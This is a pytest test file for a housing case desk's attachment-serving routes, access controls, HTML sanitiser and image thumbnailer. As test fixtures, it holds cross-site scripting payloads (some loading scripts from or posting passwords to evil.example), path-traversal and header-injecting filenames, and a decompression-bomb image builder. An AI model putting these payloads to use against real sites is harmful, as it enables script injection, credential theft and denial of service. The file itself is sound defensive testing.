"""Residents' files and originals: given out so that nothing in them can act, and to nobody who may not read the case."""

import io
import random
import re
import struct
import zlib
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default

import pytest
from fastapi.routing import APIRoute
from PIL import Image

from desk.web import files
from desk.web.clean_html import POLICY, clean_page, cleaned
from desk.web.files import disposition
from desk.web.pictures import Busy, Pictures, shrink
from desk.web.rights import READERS, Needs, guards
from desks import add_person, client_of, officer, sign_in, signed_in
from houses import arrive, house_of, settle
from outlook import file, winmail
from store.desk_models import CaseStaff
from store.models import Case, CaseEvent, Message

__all__ = ["house_of", "officer"]

one_database = pytest.mark.parametrize("database", ["sqlite"], indirect=True)
"""What is made of bytes is the same whatever keeps them."""
WAYS = ("original", "html", "raw", "files/1", "files/1/thumbnail", "files/1/large", "files/1/picture")
ATTACKS = {
    "a script": "<script>parent.hacked=1</script>",
    "a script's source": "<script src=https://evil.example/x.js></script>",
    "handlers": "<p onclick=alert(1) onmouseover='alert(2)'>word</p><body onload=alert(3)><details ontoggle=alert(4) open>",
    "a javascript link": "<a href='javascript:alert(1)'>word</a><a href='JaVa\tScRiPt:alert(1)'>word</a>",
    "a data link": "<a href='data:text/html,<script>alert(1)</script>'>word</a>",
    "css that loads": "<p style=\"background:url(https://evil.example/x)\">word</p><div style='behavior:url(#x)'>word</div>",
    "css that runs": "<p style='width:expression(alert(1))'>word</p><p style='color:red;-moz-binding:url(x)'>word</p>",
    "css in disguise": "<p style='background:u\\72l(https://evil.example/x)'>word</p><p style='color:/**/red'>word</p>",
    "css in a property that is kept": "<p style='background-color:url(https://evil.example/x)'>word</p>"
    "<p style='color:image-set(\"//evil.example\" 1x)'>word</p><p style='font-size:expression(alert(1))'>word</p>",
    "a style sheet": "<style>@import 'https://evil.example/x.css';body{background:url(//evil.example)}</style>"
    "<link rel=stylesheet href=//evil.example>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "mathematics": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a base": "<base href=https://evil.example/><base target=_top>",
    "a form": "<form action=https://evil.example method=post><input name=password><button formaction=//evil.example>Go</button></form>",
    "a frame": "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><frameset><frame>",
    "pictures from elsewhere": "<img src=https://evil.example/t.gif><img srcset='//evil.example/x 2x'>"
    "<picture><source srcset=//evil.example></picture>"
    "<video src=//evil.example poster=//evil.example></video><table background=//evil.example><td background=//evil.example>",
    "objects": "<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet>",
    "a template": "<template><script>alert(1)</script></template><noscript><img src=x title='</noscript><script>alert(1)</script>'>",
    "half a tag": '<img src="x" <script>alert(1)</script> onerror="alert(1)"',
    "a comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
}
LOADS = re.compile(
    r"(?i)<[^>]*\s(?:src|srcset|href|action|background|poster|data|formaction|xlink:href|on\w+|target|id|class)\s*="
)
TAGS = re.compile(
    r"(?i)<(script|style|link|meta|base|form|input|button|i?frame|frameset|object|embed|svg|math|img|video|source)\b"
)
NAMES = {
    "letter.pdf": ("letter.pdf", "letter.pdf"),
    'a"quote.txt': ("aquote.txt", "aquote.txt"),
    "two\r\nlines: x.txt": ("twolines: x.txt", "twolines%3A%20x.txt"),
    "../../etc/passwd": ("....etcpasswd", "....etcpasswd"),
    "C:\\boot.ini": ("C:boot.ini", "C%3Aboot.ini"),
    "Schimmel – Küche.jpg": ("Schimmel _ K_che.jpg", "Schimmel%20%E2%80%93%20K%C3%BCche.jpg"),
    "ann\u202egpj.exe": ("anngpj.exe", "anngpj.exe"),
    "100%.txt": ("100_.txt", "100%25.txt"),
    "": ("file", "file"),
}


def jpeg(width=900, height=600, colour="#884422", **saved):
    kept = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(kept, "JPEG", **saved)
    return kept.getvalue()


def png(width, height, rows=0):
    """A PNG that says it is so large, with so many rows of zeros."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes((width * 3 + 1) * rows), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def long_gif(frames):
    kept = io.BytesIO()
    Image.new("P", (20, 20), 1).save(kept, "GIF")
    one = kept.getvalue()
    start = one.index(b"\x2c")  # where the picture's own block begins, behind header and colours
    return one[:start] + one[start:-1] * frames + b";"


def with_files(*attached, html=None):
    made = EmailMessage()
    made["From"], made["Subject"] = "Ada Resident <ada@resident.example>", "Damp"
    made.set_content("complaint! The wall is damp")
    if html is not None:
        made.add_alternative(html, subtype="html")
    for name, kind, content in attached:
        main, sub = kind.split("/")
        made.add_attachment(content, maintype=main, subtype=sub, filename=name)
    return made.as_bytes()


def come(house, raw):
    number = arrive(house, raw)
    settle(house)
    return number


def restrict(house, number):
    with house.store.unit("T6") as unit:
        case_id = unit.get(Message, number).case_id
        unit.update(Case, case_id, restricted=True)
        unit.commit()
    return case_id


def test_every_route_of_files_is_for_readers_alone():
    routes = [route for route in files.router.routes if isinstance(route, APIRoute)]
    assert {route.path.removeprefix("/messages/{message_id}/").replace("{number}", "1") for route in routes} == set(WAYS)
    assert all(list(guards(route)) == [Needs(READERS)] for route in routes)


def test_a_restricted_case_keeps_its_files_from_those_who_are_not_let_in(officer):
    house, client = officer
    number = come(house, with_files(("damp.jpg", "image/jpeg", jpeg())))
    assert [client.get(f"/messages/{number}/{way}").status_code for way in WAYS] == [200] * len(WAYS)
    case_id = restrict(house, number)
    assert [client.get(f"/messages/{number}/{way}").status_code for way in WAYS] == [404] * len(WAYS)
    with house.store.unit("desk") as unit:
        row = {"case_id": case_id, "username": "olive", "relation": "let_in", "at": house.clock.now(), "by": "mina", "why": "x"}
        unit.insert(CaseStaff, [row])
        unit.commit()
    assert [client.get(f"/messages/{number}/{way}").status_code for way in WAYS] == [200] * len(WAYS)


@pytest.mark.parametrize("way", WAYS)
@one_database
def test_opening_a_file_of_a_restricted_case_is_an_event(house_of, way):
    house = house_of()
    number = come(house, with_files(("damp.jpg", "image/jpeg", jpeg())))
    case_id = restrict(house, number)
    assert signed_in(house, "mina", "manager").get(f"/messages/{number}/{way}").status_code == 200
    with house.store.glance() as glance:
        reads = [event.by for event in glance.find(CaseEvent, case_id=case_id, kind="restricted_read")]
    assert reads == ["mina"]


@one_database
def test_an_administrator_and_nobody_get_no_file(house_of):
    house = house_of()
    number = come(house, with_files(("damp.jpg", "image/jpeg", jpeg())))
    add_person(house, "adam", "administrator")
    adam, nobody = sign_in(house, client_of(house), "adam"), client_of(house)
    assert {adam.get(f"/messages/{number}/{way}").status_code for way in WAYS} == {403}
    assert {nobody.get(f"/messages/{number}/{way}").status_code for way in WAYS} == {303}


@one_database
def test_what_is_not_there_is_not_found(officer):
    house, client = officer
    number = come(house, with_files(("damp.jpg", "image/jpeg", jpeg()), ("a.pdf", "application/pdf", b"%PDF")))
    for way in ("files/3", "files/3/thumbnail", "files/2/thumbnail", "files/2/picture", "files/99/large"):
        assert client.get(f"/messages/{number}/{way}").status_code == 404, way
    assert client.get("/messages/9999/raw").status_code == 404
    assert {client.get(f"/messages/{bad}/raw").status_code for bad in ("0", "-1", "x", "9" * 30)} == {422}
    assert client.get(f"/messages/{number}/files/0").status_code == 422


def test_the_original_is_given_byte_for_byte_to_be_kept(officer):
    house, client = officer
    raw = with_files(("x.html", "text/html", b"<script>alert(1)</script>"))
    number = come(house, raw)
    answer = client.get(f"/messages/{number}/raw")
    assert answer.content == raw
    assert (
        answer.headers["content-disposition"]
        == f"attachment; filename=\"message-{number}.eml\"; filename*=UTF-8''message-{number}.eml"
    )
    page = client.get(f"/messages/{number}/files/1")
    assert page.content == b"<script>alert(1)</script>"
    for each in (answer, page):
        assert each.headers["content-type"] == "application/octet-stream"
        assert each.headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert each.headers["x-content-type-options"] == "nosniff"
        assert each.headers["content-disposition"].startswith("attachment")
        assert each.headers["cache-control"] == "no-store"


@one_database
def test_f22_seventy_photos_a_video_winmail_and_a_nested_mail_are_given_out_byte_for_byte(officer):
    house, client = officer
    nested = EmailMessage()
    nested["Subject"] = "The same last year"
    nested.set_content("Water came through the ceiling.")
    sent = [(f"IMG_{n:04}.HEIC", b"\x00\x00\x00\x18ftypheic" + random.Random(n).randbytes(900)) for n in range(70)]
    sent.append(("stairs.mp4", b"\x00\x00\x00\x18ftypisom" + random.Random(70).randbytes(5_000)))
    made = message_from_bytes(
        with_files(*((name, "application/octet-stream", content) for name, content in sent)), policy=default
    )
    made.add_attachment(nested)
    made.add_attachment(
        winmail(file("plan.pdf", b"%PDF the plan of the flat")),
        maintype="application",
        subtype="ms-tnef",
        filename="winmail.dat",
    )
    number = come(house, made.as_bytes())
    given = {}
    for at in range(1, 200):
        answer = client.get(f"/messages/{number}/files/{at}")
        if answer.status_code == 404:
            break
        name = re.search(r'filename="([^"]*)"', answer.headers["content-disposition"])
        given[name.group(1) if name else at] = answer.content
    assert {name: given.get(name) for name, _content in sent} == dict(sent)
    assert given["plan.pdf"] == b"%PDF the plan of the flat"
    assert [content for content in given.values() if b"Water came through the ceiling." in content]
    assert len(given) >= 73


@pytest.mark.parametrize("name", NAMES)
def test_a_file_is_saved_under_a_harmless_name(name):
    simple, whole = NAMES[name]
    assert disposition(name) == f"attachment; filename=\"{simple}\"; filename*=UTF-8''{whole}"


@one_database
def test_a_hostile_name_cannot_leave_its_header(officer):
    house, client = officer
    raw = with_files(("NAME", "text/plain", b"x")).replace(b'"NAME"', b'"..\\\\..\\\\x\\"; evil=1;\x01\xe2\x80\xae.txt"')
    number = come(house, raw)
    answer = client.get(f"/messages/{number}/files/1")
    assert answer.status_code == 200
    assert re.fullmatch(
        r"attachment; filename=\"[^\"\\/]+\"; filename\*=UTF-8''[\w.%-]+", answer.headers["content-disposition"]
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_hostile_page_can_act(attack):
    clean = cleaned(f"<p>before</p>{ATTACKS[attack]}<p>after</p>")
    assert "before" in clean
    assert LOADS.search(clean) is None, clean
    assert TAGS.search(clean) is None, clean
    assert not re.search(r"(?i)style=[^>]*(?:url|expression|image-set|import|binding|behavior|\\|/\*)", clean), clean


@pytest.mark.parametrize(
    "attack",
    ["handlers", "a javascript link", "css that loads", "css that runs", "css in disguise", "css in a property that is kept"],
)
def test_the_words_of_a_hostile_page_stay(attack):
    assert cleaned(ATTACKS[attack]).count("word") == ATTACKS[attack].count(">word<")


def test_where_a_link_led_is_told_and_looks_stay():
    clean = cleaned(
        "<p style='color:red;position:fixed'>See <a href='https://bank.evil.example/x'>your bank</a> <img alt='a cat' src=x></p>"
    )
    assert clean == '<p style="color:red">See <a>your bank</a> [https://bank.evil.example/x] [picture: a cat]</p>'


def test_plain_words_are_no_html_in_the_frame():
    page = clean_page(None, "</pre><script>alert(1)</script>\x00\x08")
    assert "&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre>" in page


def test_the_frame_and_its_page_are_fenced(officer):
    house, client = officer
    number = come(house, with_files(html="<p onclick=alert(1)>complaint! <b>damp</b></p>"))
    inner = client.get(f"/messages/{number}/html")
    assert inner.headers["content-security-policy"] == POLICY
    assert POLICY.startswith("sandbox; default-src 'none'")
    assert "img-src" not in POLICY and "script-src" not in POLICY and "frame-ancestors 'self'" in POLICY
    assert "<p>complaint! <b>damp</b></p>" in inner.text
    outer = client.get(f"/messages/{number}/original")
    assert re.search(rf'<iframe [^>]*sandbox="" src="/messages/{number}/html"', outer.text)
    assert "onclick" not in outer.text
    assert "frame-ancestors 'none'" in outer.headers["content-security-policy"]


@one_database
def test_back_leads_to_where_one_came_from_and_never_elsewhere(officer):
    house, client = officer
    number = come(house, with_files())

    def back(referer):
        text = client.get(f"/messages/{number}/original", headers={"Referer": referer}).text
        return re.search(r'govuk-back-link" href="([^"]*)"', text)[1]

    assert back("http://127.0.0.1:8080/tasks/7?view=mine&kind=triage") == "/tasks/7?view=mine&amp;kind=triage"
    for other in ("https://evil.example/tasks/7", "http://127.0.0.1:8080//evil.example", "http://127.0.0.1:8080/settings", ""):
        assert back(other).startswith("/cases/")


def test_a_picture_is_made_anew_small_upright_and_without_its_own_data():
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010E] = "SECRET PLACE"
    original = jpeg(1200, 600, exif=exif, comment=b"<script>alert(1)</script>")
    assert b"SECRET PLACE" in original
    small = shrink(original, 240)
    with Image.open(io.BytesIO(small)) as picture:
        assert (picture.format, picture.size) == ("JPEG", (120, 240))
        assert dict(picture.getexif()) == {}
    assert b"SECRET" not in small and b"script" not in small


def test_a_clear_picture_stands_on_white():
    kept = io.BytesIO()
    Image.new("RGBA", (50, 50), (255, 0, 0, 0)).save(kept, "PNG")
    with Image.open(io.BytesIO(shrink(kept.getvalue(), 240))) as picture:
        assert picture.getpixel((25, 25)) == (255, 255, 255)


@pytest.mark.parametrize(
    "form", ["GIF of 10,000 frames", "JPEG of 48 million pixels", "WebP", "black and white", "palette", "four colours"]
)
def test_odd_but_honest_pictures_are_shown(form):
    kept = io.BytesIO()
    if form.startswith("GIF"):
        kept.write(long_gif(10_000))
    elif form.startswith("JPEG"):
        Image.new("RGB", (8_000, 6_000), "green").save(kept, "JPEG")
    elif form == "WebP":
        Image.new("RGB", (500, 400), "green").save(kept, "WEBP")
    else:
        mode = {"black and white": "1", "palette": "P", "four colours": "CMYK"}[form]
        Image.new(mode, (500, 400)).save(kept, "JPEG" if mode == "CMYK" else "PNG")
    with Image.open(io.BytesIO(shrink(kept.getvalue(), 240))) as picture:
        assert max(picture.size) <= 240


@pytest.mark.parametrize(
    "name", ["bomb", "empty bomb", "nothing", "text", "cut short", "svg", "postscript", "tiff", "html", "dimensions of zero"]
)
@pytest.mark.slow
def test_a_picture_that_is_none_or_too_much_gives_nothing(name):
    kept = io.BytesIO()
    Image.new("RGB", (9, 9)).save(kept, "TIFF")
    content = {
        "bomb": png(10_000, 10_000, rows=10_000),
        "empty bomb": png(60_000, 60_000),
        "nothing": b"",
        "text": b"no picture at all",
        "cut short": jpeg()[:300],
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n",
        "tiff": kept.getvalue(),
        "html": b"<html><img src=x>",
        "dimensions of zero": png(0, 0),
    }[name]
    assert shrink(content, 240) == b""


def test_the_bomb_is_one():
    bomb = png(10_000, 10_000, rows=10_000)
    assert len(bomb) < 400_000
    with pytest.warns(Image.DecompressionBombWarning), Image.open(io.BytesIO(bomb)) as picture:
        assert picture.size == (10_000, 10_000)


@one_database
def test_a_picture_that_is_a_page_too_is_given_as_a_picture_alone(officer):
    house, client = officer
    kept = io.BytesIO()
    Image.new("RGB", (9, 9)).save(kept, "PNG")
    both = kept.getvalue() + b"<html><script>alert(1)</script></html>"
    number = come(house, with_files(("photo.html", "text/html", both)))
    small = client.get(f"/messages/{number}/files/1/thumbnail")
    assert small.headers["content-type"] == "image/jpeg"
    assert b"script" not in small.content
    assert small.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert client.get(f"/messages/{number}/files/1").headers["content-type"] == "application/octet-stream"


def test_a_picture_is_made_once_and_a_refusal_is_kept_too():
    asked = []

    def content(name):
        asked.append(name)
        return jpeg() if name == "good" else b"\xff\xd8\xff broken"

    kept = Pictures()
    for _ in range(3):
        assert kept.of(("good", 240), lambda: content("good")).startswith(b"\xff\xd8\xff")
        assert kept.of(("bad", 240), lambda: content("bad")) is None
    assert asked == ["good", "bad"]


def test_pictures_are_forgotten_when_there_is_no_more_room():
    asked = []

    def content(number):
        asked.append(number)
        return jpeg(colour=(number * 40, 0, 0))

    size = len(shrink(jpeg(), 240))
    kept = Pictures(most_kept=size * 2 + 500)
    for number in (1, 2, 3, 3, 1):
        kept.of((str(number), 240), lambda number=number: content(number))
    assert asked == [1, 2, 3, 1]


def test_a_page_is_told_when_too_many_pictures_are_being_made():
    kept = Pictures(at_once=1, patience=0)

    def another():
        with pytest.raises(Busy):
            kept.of(("another", 240), lambda: b"x")

    assert kept.of(("one", 240), another) is None
    assert kept.of(("another", 240), lambda: None) is None
